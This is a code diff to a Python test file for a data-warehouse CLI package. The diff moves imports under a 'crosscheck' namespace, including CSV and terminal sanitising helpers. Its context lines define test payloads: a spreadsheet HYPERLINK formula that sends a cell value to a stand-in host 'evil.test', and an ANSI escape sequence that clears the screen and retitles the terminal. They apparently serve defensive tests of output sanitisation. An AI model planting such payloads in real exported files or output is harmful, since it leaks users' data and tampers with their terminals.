@@ -8,11 +8,18 @@ import io
 from pathlib import Path
 
 import pytest
+from crosscheck.warehouse import (
+    QueryError,
+    export,
+    format_csv,
+    format_table,
+    open_warehouse,
+    run_query,
+)
+from crosscheck.warehouse.safety import csv_cell, terminal_text
 
 from crosscheck.cli import main
 from tests.warehouse.test_support import C_TABLE, loaded, make_bundle
-from warehouse import QueryError, export, format_csv, format_table, open_warehouse, run_query
-from warehouse.safety import csv_cell, terminal_text
 
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
 ANSI = "Flask\x1b[2J\x1b]0;owned\x07 \x9b31m"
